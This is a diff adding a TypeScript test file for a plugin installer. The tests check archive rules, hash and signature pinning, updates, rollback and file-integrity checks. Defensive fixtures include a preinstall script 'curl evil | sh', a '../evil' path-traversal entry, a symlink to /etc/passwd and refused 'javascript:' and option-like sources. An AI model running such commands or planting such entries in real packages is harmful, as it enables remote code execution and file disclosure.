@@ -1,0 +1,218 @@
+import { generateKeyPairSync, sign } from 'node:crypto'
+import { chmodSync, existsSync, mkdirSync, readdirSync, statSync, symlinkSync, writeFileSync } from 'node:fs'
+import { join } from 'node:path'
+import t from 'tap'
+import { checkFiles } from '../../../../src/core/plugins/archive/check-files.ts'
+import {
+  getPlugin,
+  installPlugin,
+  listPlugins,
+  rollBackPlugin,
+  uninstallPlugin,
+  updatePlugin,
+} from '../../../../src/core/plugins/index.ts'
+import { pluginsFolder, versionFolder } from '../../../../src/core/plugins/install/plugin-folders.ts'
+import { readSource } from '../../../../src/core/plugins/install/read-source.ts'
+import { sha256Of } from '../../../../src/core/plugins/install/verify-origin.ts'
+import type { Outbound } from '../../../../src/core/platform/outbound/index.ts'
+import { manifestText, pluginArchive, tarGz } from '../../../support/plugin-archives.ts'
+import { testServices } from '../../../support/services.ts'
+
+const services = await testServices(t)
+const { dataDirectory } = services.config
+const NAME = 'phlix-plugin-sample'
+const SOURCE = 'export default class {}'
+const folder = pluginsFolder(dataDirectory)
+const confirm = async (): Promise<boolean> => true
+let files = 0
+
+async function archiveFile(bytes: Buffer): Promise<string> {
+  files += 1
+  const path = join(dataDirectory, `${files}.tgz`)
+  writeFileSync(path, bytes)
+  return path
+}
+
+const install = async (bytes: Buffer, pin = {}) =>
+  installPlugin(services, { source: await archiveFile(bytes), pin, confirm })
+
+void t.test('a plugin is installed disabled, with read-only files, and removed with them', async (t) => {
+  const bytes = await pluginArchive(SOURCE)
+  const plugin = await install(bytes, { sha256: sha256Of(bytes).toUpperCase() })
+  t.match(plugin, {
+    name: NAME,
+    isEnabled: false,
+    disabledReason: null,
+    archiveSha256: sha256Of(bytes),
+    previous: null,
+  })
+  if (plugin === undefined) return
+  const place = versionFolder(dataDirectory, plugin)
+  t.equal(statSync(join(place, 'index.mjs')).mode & 0o777, 0o444)
+  await checkFiles(place, plugin.fileHashes)
+  await t.rejects(install(bytes), { code: 'plugin_exists' })
+  t.strictSame(readdirSync(folder), [NAME], 'no staging folder is left')
+  await uninstallPlugin(services, NAME)
+  t.strictSame(readdirSync(folder), [])
+  await t.rejects(uninstallPlugin(services, NAME), { code: 'plugin_not_found' })
+})
+
+void t.test('an archive that breaks a rule leaves nothing (PI-01)', async (t) => {
+  const entries = [
+    { path: 'plugin.json', content: manifestText() },
+    { path: 'index.mjs', content: SOURCE },
+  ]
+  const scripts = JSON.stringify({ scripts: { preinstall: 'curl evil | sh' } })
+  const broken: [Parameters<typeof tarGz>[0], RegExp][] = [
+    [[{ path: 'index.mjs', content: SOURCE }], /no plugin\.json/],
+    [[{ path: 'plugin.json', content: manifestText() }], /no file index\.mjs/],
+    [[...entries, { path: 'package.json', content: scripts }], /script preinstall/],
+    [[...entries, { path: '../evil', content: 'x' }], /leaves its folder/],
+    [[...entries, { path: 'plugin.json', content: 'x'.repeat(300_000) }], /occurs twice/],
+    [[{ path: 'plugin.json', content: ' '.repeat(300_000) }, { path: 'index.mjs' }], /larger than/],
+  ]
+  for (const [list, message] of broken) {
+    await t.rejects(install(await tarGz(list)), { code: 'plugin.install.failed', message })
+    t.strictSame([readdirSync(folder), await listPlugins(services)], [[], []])
+  }
+  t.notOk(existsSync(join(dataDirectory, 'evil')))
+})
+
+void t.test('one folder around the files is removed, as npm pack makes it', async (t) => {
+  const plugin = await install(
+    await tarGz([
+      { path: 'package/plugin.json', content: manifestText() },
+      { path: 'package/index.mjs', content: SOURCE },
+    ]),
+  )
+  t.strictSame(Object.keys(plugin?.fileHashes ?? {}).toSorted(), ['index.mjs', 'plugin.json'])
+  await uninstallPlugin(services, NAME)
+})
+
+void t.test('sources of other kinds are refused (PI-02)', (t) => {
+  for (const source of [
+    'http://x/y.tgz',
+    'git+ssh://x/y',
+    'ftp://x',
+    'data:x,y',
+    'javascript:1',
+    '-opt',
+    '',
+    'file://host/x',
+    'a\0b',
+    'https://',
+  ]) {
+    t.throws(() => readSource(source), { code: 'plugin.url.invalid_scheme' }, source)
+  }
+  t.strictSame(readSource('file:///a/b%20c.tgz'), { kind: 'file', path: '/a/b c.tgz' })
+  t.strictSame(readSource('./x.tgz'), { kind: 'file', path: './x.tgz' })
+  t.strictSame(readSource('HTTPS://x/y'), { kind: 'https', url: 'HTTPS://x/y' })
+  t.end()
+})
+
+void t.test('an archive from the network needs the right hash or signature (PI-02)', async (t) => {
+  const bytes = await pluginArchive(SOURCE)
+  const { publicKey, privateKey } = generateKeyPairSync('ed25519')
+  const raw = publicKey.export({ format: 'der', type: 'spki' }).subarray(-32)
+  const key = Buffer.concat([Buffer.from('Ed'), Buffer.alloc(8, 7), raw]).toString('base64')
+  const signature = sign(null, Buffer.from(sha256Of(bytes), 'hex'), privateKey).toString('base64')
+  const asked: string[] = []
+  const outbound: Outbound = {
+    async send({ url, trust, redirects }) {
+      asked.push(url)
+      t.match({ trust, redirects }, { trust: 'public', redirects: 3 })
+      return { status: 200, headers: {}, body: url.includes('.sig') ? Buffer.from(`${signature}\n`) : bytes }
+    },
+    async close() {},
+  }
+  const source = 'https://example.org/p.tgz?x=1'
+  const fetchWith = (pin: { sha256?: string; key?: string }) =>
+    installPlugin({ ...services, outbound }, { source, pin, confirm })
+  const refused = { code: 'plugin.install.failed' }
+  await t.rejects(fetchWith({}), { ...refused, message: /pinned/ })
+  t.strictSame(asked, [], 'nothing is fetched without a pin')
+  await t.rejects(fetchWith({ sha256: '0'.repeat(64) }), { ...refused, message: /not the pinned one/ })
+  const otherKey = Buffer.concat([
+    Buffer.from('Ed'),
+    Buffer.alloc(8),
+    generateKeyPairSync('ed25519').publicKey.export({ format: 'der', type: 'spki' }).subarray(-32),
+  ])
+  await t.rejects(fetchWith({ key: otherKey.toString('base64') }), { ...refused, message: /signature/ })
+  for (const wrong of ['', 'x', raw.toString('base64')]) await t.rejects(fetchWith({ key: wrong }), refused)
+  t.match(await fetchWith({ key, sha256: sha256Of(bytes) }), { name: NAME, source })
+  t.ok(asked.includes('https://example.org/p.tgz.sig?x=1'))
+  await uninstallPlugin(services, NAME)
+})
+
+void t.test('an update keeps one old version, and more permissions wait for the administrator', async (t) => {
+  await install(await pluginArchive(SOURCE))
+  const update = async (fields: object) =>
+    updatePlugin(services, {
+      name: NAME,
+      source: await archiveFile(await pluginArchive(SOURCE, { ...fields })),
+      pin: {},
+      confirm,
+    })
+  await t.rejects(update({ name: 'phlix-plugin-other' }), {
+    code: 'plugin.install.failed',
+    message: /not of phlix-plugin-sample/,
+  })
+  await t.rejects(updatePlugin(services, { name: 'phlix-plugin-none', source: 'x', pin: {}, confirm }), {
+    code: 'plugin_not_found',
+  })
+  for (const version of ['1.1.0', '1.2.0']) await update({ version })
+  t.match(await getPlugin(services, NAME), {
+    manifest: { version: '1.2.0' },
+    previous: { manifest: { version: '1.1.0' } },
+  })
+  t.equal(readdirSync(join(folder, NAME)).length, 2)
+  t.match(await rollBackPlugin(services, NAME), {
+    manifest: { version: '1.1.0' },
+    previous: { manifest: { version: '1.2.0' } },
+  })
+  const { updateState } = await import('../../../../src/core/plugins/queries.ts')
+  await updateState(services.db, { name: NAME, isEnabled: true, disabledReason: null, now: services.clock.now() })
+  t.match(await update({ version: '1.3.0' }), { isEnabled: true })
+  t.match(await update({ version: '1.4.0', permissions: { hosts: ['*'] } }), { isEnabled: false })
+  await uninstallPlugin(services, NAME)
+})
+
+void t.test('what killed installations left is removed by the next one (PI-03)', async (t) => {
+  const unconfirmed = await installPlugin(services, {
+    source: await archiveFile(await pluginArchive(SOURCE)),
+    pin: {},
+    confirm: async () => {
+      // A process that was killed before and after its rename.
+      mkdirSync(join(folder, '.staging-999999-1-abc'))
+      mkdirSync(join(folder, 'phlix-plugin-lost', '1.0.0-abc'), { recursive: true })
+      return false
+    },
+  })
+  t.equal(unconfirmed, undefined)
+  const plugin = await install(await pluginArchive(SOURCE))
+  if (plugin === undefined) return
+  t.strictSame(readdirSync(folder), [NAME])
+  mkdirSync(join(folder, NAME, '0.9.0-old'))
+  await rollBackPlugin(services, NAME).catch(() => undefined)
+  await t.rejects(install(await pluginArchive(SOURCE)), { code: 'plugin_exists' })
+  t.strictSame(readdirSync(join(folder, NAME)), [plugin.folder], 'a version without a row')
+  await uninstallPlugin(services, NAME)
+})
+
+void t.test('added, changed and removed files and links are found before a start (PI-05)', async (t) => {
+  const changes: [string, (place: string) => void][] = [
+    ['added', (place) => writeFileSync(join(place, 'new.mjs'), 'x')],
+    ['changed', (place) => writeFileSync(join(place, 'index.mjs'), 'evil')],
+    ['link', (place) => symlinkSync('/etc/passwd', join(place, 'link'))],
+  ]
+  for (const [word, change] of changes) {
+    const plugin = await install(await pluginArchive(SOURCE))
+    if (plugin === undefined) return
+    const place = versionFolder(dataDirectory, plugin)
+    chmodSync(join(place, 'index.mjs'), 0o644)
+    change(place)
+    await t.rejects(checkFiles(place, plugin.fileHashes), { code: 'plugin_changed' }, word)
+    await uninstallPlugin(services, NAME)
+  }
+  await t.rejects(checkFiles(join(folder, 'gone'), {}), { code: 'plugin_changed' })
+})
